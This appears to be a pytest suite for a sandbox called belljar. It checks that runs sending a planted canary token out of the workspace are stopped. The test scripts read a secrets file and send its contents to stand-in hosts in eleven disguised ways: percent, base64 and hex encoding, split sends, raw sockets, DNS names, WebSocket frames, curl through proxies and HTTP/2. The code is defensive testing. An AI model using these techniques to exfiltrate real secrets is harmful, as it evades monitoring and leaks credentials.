"""Tokens that belljar plants in the workspace: a run that sends one anywhere is stopped, whatever form it gave it."""

from __future__ import annotations

from typing import NamedTuple

import pytest
from network_certificates import Certificates
from network_http2 import serve_http2
from network_routes import OpenJar, codes, network, rule, run_python, summary, told
from network_servers import Server
from network_web import Site, Web

from belljar import RunResult, Sandbox

BEFORE = """
import base64, os, socket, ssl, time, urllib.parse, urllib.request
token = open("/workspace/.env.production").read().strip()
def get(path, data=None, headers={}):
    print(urllib.request.urlopen(urllib.request.Request("https://web.test" + path, data, headers)).read().decode())
"""
AFTER = "\ntime.sleep(20)\nprint('still alive')\n"


class Way(NamedTuple):
    """How a token is sent."""

    name: str
    code: str


WAYS = (
    Way("in a path", "get('/' + token)"),
    Way("in a query, percent-encoded", "get('/?q=' + ''.join(f'%{ord(c):02x}' for c in token))"),
    Way("in a header", "get('/', headers={'X-Note': token})"),
    Way("in a body", "get('/', b'x' * 70000 + token.encode() + b'y')"),
    Way("in a body, base64", "get('/', base64.b64encode(b'z' + token.encode()))"),
    Way("in a body, base64 for URLs", "get('/', base64.urlsafe_b64encode(token.encode()))"),
    Way("in a body, hex", "get('/', token.encode().hex().upper().encode())"),
    Way("in a body, sent in two parts", "send_in_parts()"),
    Way("in a tunnel of no protocol", "tunnel()"),
    Way("in a name", "look_up()"),
    Way("in a WebSocket", "websocket()"),
)
HELPERS = """
def connected(host, port):
    return socket.create_connection((host, port))
def send_in_parts():
    end = ssl.create_default_context().wrap_socket(connected("web.test", 443), server_hostname="web.test")
    end.sendall(f"POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: {len(token)}\\r\\n\\r\\n".encode())
    end.sendall(token[:9].encode())
    time.sleep(0.3)
    end.sendall(token[9:].encode())
def tunnel():
    end = connected("plain.test", 7)
    end.sendall(b"\\x00\\x01\\x02" + token.encode())
def look_up():
    try:
        socket.getaddrinfo(token + ".wild.test", 80)
    except OSError:
        pass
def websocket():
    end = connected("web.test", 80)
    end.sendall(b"GET /socket HTTP/1.1\\r\\nHost: web.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
    end.recv(1000)
    end.sendall(bytes((0x81, 0x80 | len(token))) + bytes(4) + token.encode())
"""


@pytest.fixture
def watched(net_jar: OpenJar, web: Web, secure: Web, plain: Server) -> Sandbox:
    """A jar with a token in its workspace and a broad policy."""
    rules = [
        rule("web.test", secure.address, 443),
        rule("web.test", web.address, 80),
        rule("plain.test", plain.address, 7),
        rule("*.wild.test", web.address, 80),
    ]
    return net_jar(network(*rules, canary_files=["/workspace/.env.production"]))


def assert_stopped(result: RunResult) -> None:
    """The run was ended by belljar, with the reason."""
    assert result.outcome == "killed", summary(result)
    assert "canary" in result.reason
    assert "canary" in codes(result)
    assert "still alive" not in result.stdout


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.name)
def test_run_that_sends_the_token_is_stopped(watched: Sandbox, site: Site, plain: Server, way: Way) -> None:
    """At once, and the token does not arrive whole."""
    result = run_python(
        watched, f"{BEFORE}{HELPERS}\ntry:\n    {way.code}\nexcept OSError as error:\n    print(error){AFTER}"
    )
    assert_stopped(result)
    assert result.duration < 15
    sent = [text for request in site.requests for text in (request.path, *request.headers.values(), str(request.body))]
    token = result_token(watched)
    assert not [text for text in (*sent, *plain.heard) if token in text]


def result_token(jar: Sandbox) -> str:
    """What was planted."""
    return jar.files.read("/workspace/.env.production").decode().strip()


@pytest.mark.parametrize("route", ["http", "socks"])
def test_token_on_the_other_routes(watched: Sandbox, route: str) -> None:
    """A proxy that the code knows of is the same proxy."""
    script = "import subprocess; subprocess.run(['curl', '-sS', 'https://web.test/' + token])"
    assert_stopped(run_python(watched, BEFORE + script + AFTER, route=route))


def test_token_in_http2(net_jar: OpenJar, certificates: Certificates) -> None:
    """In a header that HTTP/2 has compressed, and in a body."""
    with Server(serve_http2, tls=certificates.context(protocols=["h2"])) as server:
        jar = net_jar(network(rule("web.test", server.address, 443), canary_files=["/workspace/.env.production"]))
        for words in ("'-H', 'x-note: ' + token", "'-d', 'x' * 20000 + token"):
            script = f"import subprocess; subprocess.run(['curl', '-sS', '--http2', {words}, 'https://web.test/'])"
            assert_stopped(run_python(jar, BEFORE + script + AFTER))
        token = result_token(jar)
        assert not [text for text in server.heard if token in text or "InvalidBodyLength" in text], "cut off, not ended"


def test_token_is_anew_in_every_sandbox_and_harmless_unless_sent(net_jar: OpenJar, secure: Web, site: Site) -> None:
    """Code may read it, and what it sends otherwise passes."""
    tokens = set()
    for _ in range(2):
        jar = net_jar(network(rule("web.test", secure.address, 443), canary_files=["/workspace/.env.production"]))
        told(run_python(jar, BEFORE + "get('/harmless', token[:12].encode())"))
        tokens.add(result_token(jar))
    assert len(tokens) == 2
    assert all(len(token) >= 32 for token in tokens)
    assert [request.path for request in site.requests] == ["/harmless"] * 2


@pytest.mark.parametrize("opened", [True, False], ids=["token", "control"])
def test_token_to_a_service_of_this_host_in_tls(net_jar: OpenJar, secure: Web, site: Site, opened: bool) -> None:
    """Is found as anywhere else, although nobody has signed the name by which the jar knows this host."""
    jar = net_jar(network(host_ports=[secure.port], canary_files=["/workspace/.env.production"]))
    sent = "token" if opened else "token[::2]"
    code = f"""
import urllib.request
token = open("/workspace/.env.production").read().strip()
url = "https://host.belljar.internal:{secure.port}/take"
print(urllib.request.urlopen(url, {sent}.encode()).read().decode())
"""
    result = run_python(jar, code)
    assert ("canary" in codes(result)) is opened, summary(result)
    assert [len(request.body) for request in site.requests if request.body] == ([] if opened else [20])
